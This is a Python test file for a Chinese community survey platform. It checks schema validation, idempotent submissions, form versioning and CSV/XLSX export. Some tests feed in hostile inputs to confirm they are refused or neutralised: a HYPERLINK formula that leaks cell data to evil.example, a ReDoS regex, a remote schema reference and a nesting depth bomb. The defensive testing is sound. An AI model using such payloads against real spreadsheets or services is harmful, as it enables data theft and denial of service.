"""Form versions, schema checks at the door, idempotent submissions."""

from __future__ import annotations

import copy
import threading

from sqlmodel import Session, select

from shequyun.collection.models import Form, TaskEvent

from ._forms import COMMITTEE_COUNT, deadline


def open_campaign(client, publisher, form, targets):
    created = client.post(
        "/api/v1/forms", json={"title": "加装电梯意愿摸底", **form}, headers=publisher.auth
    )
    assert created.status_code == 201, created.text
    form_id = created.json()["id"]
    assert (
        client.post(
            f"/api/v1/forms/{form_id}/versions/1/publish", headers=publisher.auth
        ).status_code
        == 200
    )
    opened = client.post(
        "/api/v1/campaigns",
        headers=publisher.auth,
        json={"form_id": form_id, "version": 1, "deadline": deadline(), "targets": targets},
    )
    assert opened.status_code == 201, opened.text
    return form_id, opened.json()["id"]


def test_bad_schemas_are_refused_with_every_problem_and_nothing_is_stored(
    shequyun_client, shequyun_actors, shequyun_kernel
):
    bureau = shequyun_actors.bureau()
    deep: dict = {"type": "object", "properties": {}}
    node = deep
    for _ in range(40):
        child: dict = {"type": "object", "properties": {}}
        node["properties"]["x"] = child
        node = child
    bad_schemas = {
        "remote ref": {
            "type": "object",
            "properties": {"a": {"$ref": "https://example.com/s.json"}},
        },
        "depth bomb": deep,
        "huge enum": {
            "type": "object",
            "properties": {"a": {"enum": [str(i) for i in range(100_000)]}},
        },
        "catastrophic pattern": {
            "type": "object",
            "properties": {"a": {"type": "string", "pattern": "(a+)+$"}},
        },
        "not a schema": {"type": "object", "properties": {"a": {"type": "strange"}}},
        "not even an object": ["type", "object"],
    }
    for why, schema in bad_schemas.items():
        response = shequyun_client.post(
            "/api/v1/forms", headers=bureau.auth, json={"title": why, "schema": schema, "ui": {}}
        )
        assert response.status_code in (413, 422), (why, response.status_code)
        if response.status_code == 422:
            assert response.json()["error"]["details"], why
    with Session(shequyun_kernel.engine) as session:
        assert session.exec(select(Form)).all() == []


def test_a_published_version_never_changes(shequyun_client, shequyun_actors):
    bureau = shequyun_actors.bureau()
    form_id, _ = open_campaign(shequyun_client, bureau, COMMITTEE_COUNT, ["310104003000"])
    again = shequyun_client.post(f"/api/v1/forms/{form_id}/versions/1/publish", headers=bureau.auth)
    assert again.status_code == 409


def test_the_same_key_sent_twice_at_once_stores_one_submission(
    shequyun_client, shequyun_actors, shequyun_kernel
):
    bureau = shequyun_actors.bureau()
    cadre = shequyun_actors.cadre("310104003001")
    open_campaign(shequyun_client, bureau, COMMITTEE_COUNT, ["310104003000"])
    (task,) = shequyun_client.get("/api/v1/tasks", headers=cadre.auth).json()["items"]
    barrier = threading.Barrier(2)
    codes = []

    def send():
        client = cadre.client()
        barrier.wait()
        codes.append(
            client.post(
                f"/api/v1/tasks/{task['id']}/submit",
                json={"client_key": "same-key-123", "data": {"households": 640}},
            ).status_code
        )

    threads = [threading.Thread(target=send) for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(codes) == [200, 201]
    with Session(shequyun_kernel.engine) as session:
        steps = session.exec(select(TaskEvent.action).where(TaskEvent.task_id == task["id"])).all()
    assert steps == ["submitted"]
    again = shequyun_client.post(
        f"/api/v1/tasks/{task['id']}/submit",
        headers=cadre.auth,
        json={"client_key": "same-key-123", "data": {"households": 1}},
    )
    assert again.status_code == 200 and again.headers["idempotent-replayed"] == "true"
    assert again.json()["data"] == {"households": 640}


def test_bad_submissions_get_chinese_errors_per_field_and_store_nothing(
    shequyun_client, shequyun_actors
):
    bureau = shequyun_actors.bureau()
    cadre = shequyun_actors.cadre("310104003001")
    open_campaign(shequyun_client, bureau, COMMITTEE_COUNT, ["310104003000"])
    (task,) = shequyun_client.get("/api/v1/tasks", headers=cadre.auth).json()["items"]
    bad = shequyun_client.post(
        f"/api/v1/tasks/{task['id']}/submit",
        headers=cadre.auth,
        json={
            "client_key": "bad-key-0001",
            "data": {"households": -3, "remark": "x" * 300, "extra": 1},
        },
    )
    assert bad.status_code == 422
    fields = {d["field"] for d in bad.json()["error"]["details"]}
    assert {"households", "remark"} <= fields
    assert all(
        any("\u4e00" <= ch <= "\u9fff" for ch in d["message"])
        for d in bad.json()["error"]["details"]
    )
    after = shequyun_client.get(f"/api/v1/tasks/{task['id']}", headers=cadre.auth).json()
    assert after["status"] == "not_started" and after["data"] == {}
    assert (
        shequyun_client.post(
            f"/api/v1/tasks/{task['id']}/submit",
            headers=cadre.auth,
            json={"client_key": "short", "data": {"households": 1}},
        ).json()["error"]["field"]
        == "client_key"
    )


def test_version_two_with_a_renamed_and_a_removed_field_keeps_version_one_answers(
    shequyun_client, shequyun_actors
):
    client = shequyun_client
    bureau = shequyun_actors.bureau()
    first = shequyun_actors.cadre("310104003001")
    second = shequyun_actors.cadre("310104003002")
    form_id, campaign_v1 = open_campaign(client, bureau, COMMITTEE_COUNT, ["310104003001"])
    (task,) = client.get("/api/v1/tasks", headers=first.auth).json()["items"]
    client.post(
        f"/api/v1/tasks/{task['id']}/submit",
        headers=first.auth,
        json={
            "client_key": "v1-answer-01",
            "data": {"households": 500, "elevators_wanted": 3, "remark": "老小区"},
        },
    )
    v2 = copy.deepcopy(COMMITTEE_COUNT)
    props = v2["schema"]["properties"]
    props["household_count"] = props.pop("households")
    props.pop("remark")
    v2["schema"]["required"] = ["household_count"]
    v2["ui"]["fields"] = {
        "household_count": {"label": "总户数", "renamed_from": "households"},
        "elevators_wanted": {"label": "有意加装电梯的楼栋数"},
    }
    draft = client.post(f"/api/v1/forms/{form_id}/versions", headers=bureau.auth, json=v2)
    assert draft.status_code == 201, draft.text
    published = client.post(f"/api/v1/forms/{form_id}/versions/2/publish", headers=bureau.auth)
    assert published.json()["columns"] == {
        "household_count": "households",
        "elevators_wanted": "elevators_wanted",
    }
    opened = client.post(
        "/api/v1/campaigns",
        headers=bureau.auth,
        json={
            "form_id": form_id,
            "version": 2,
            "deadline": deadline(),
            "targets": ["310104003002"],
        },
    )
    (task2,) = client.get("/api/v1/tasks", headers=second.auth).json()["items"]
    client.post(
        f"/api/v1/tasks/{task2['id']}/submit",
        headers=second.auth,
        json={
            "client_key": "v2-answer-01",
            "data": {"household_count": 720, "elevators_wanted": 5},
        },
    )
    v1_export = client.get(f"/api/v1/campaigns/{campaign_v1}/export", headers=bureau.auth)
    header, row = v1_export.content.decode("utf-8-sig").splitlines()
    assert header.endswith("总户数,有意加装电梯的楼栋数,备注")
    assert row.endswith("500,3,老小区")
    v2_rows = client.get(
        f"/api/v1/campaigns/{opened.json()['id']}/submissions", headers=bureau.auth
    ).json()["items"]
    assert v2_rows[0]["data"] == {"households": 720, "elevators_wanted": 5}


def test_results_export_as_xlsx_keeps_the_columns(shequyun_client, shequyun_actors):
    import io

    from openpyxl import load_workbook

    bureau = shequyun_actors.bureau()
    cadre = shequyun_actors.cadre("310104003001")
    _, campaign = open_campaign(shequyun_client, bureau, COMMITTEE_COUNT, ["310104003000"])
    (task,) = shequyun_client.get("/api/v1/tasks", headers=cadre.auth).json()["items"]
    shequyun_client.post(
        f"/api/v1/tasks/{task['id']}/submit",
        headers=cadre.auth,
        json={"client_key": "xlsx-answer-1", "data": {"households": 640, "remark": "=1+1"}},
    )
    response = shequyun_client.get(
        f"/api/v1/campaigns/{campaign}/export?format=xlsx", headers=bureau.auth
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    header, row = list(sheet.iter_rows(values_only=True))
    assert header[-3:] == ("户数", "有意加装电梯的楼栋数", "备注")
    assert row[3] == "宛平南路居委会" and row[-3] == 640
    assert row[-1] == "=1+1"  # text, never a formula
    refused = shequyun_client.get(
        f"/api/v1/campaigns/{campaign}/export?format=pdf", headers=bureau.auth
    )
    assert refused.status_code == 422 and refused.json()["error"]["field"] == "format"


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(shequyun_client, shequyun_actors):
    import csv
    import io

    bureau = shequyun_actors.bureau()
    cadre = shequyun_actors.cadre("310104003001")
    form = copy.deepcopy(COMMITTEE_COUNT)
    form["ui"]["fields"]["remark"]["label"] = '=HYPERLINK("http://evil.example","备注")'
    _, campaign = open_campaign(shequyun_client, bureau, form, ["310104003000"])
    (task,) = shequyun_client.get("/api/v1/tasks", headers=cadre.auth).json()["items"]
    answer = '=HYPERLINK("http://evil.example/?"&A2,"点这里")'
    submitted = shequyun_client.post(
        f"/api/v1/tasks/{task['id']}/submit",
        headers=cadre.auth,
        json={"client_key": "csv-formula-1", "data": {"households": 0, "remark": answer}},
    )
    assert submitted.status_code == 201, submitted.text
    export = shequyun_client.get(f"/api/v1/campaigns/{campaign}/export", headers=bureau.auth)
    header, row = csv.reader(io.StringIO(export.content.decode("utf-8-sig")))
    assert header[-1] == "'" + form["ui"]["fields"]["remark"]["label"]
    assert row[-1] == "'" + answer
    assert row[-3] == "0"  # numbers stay numbers
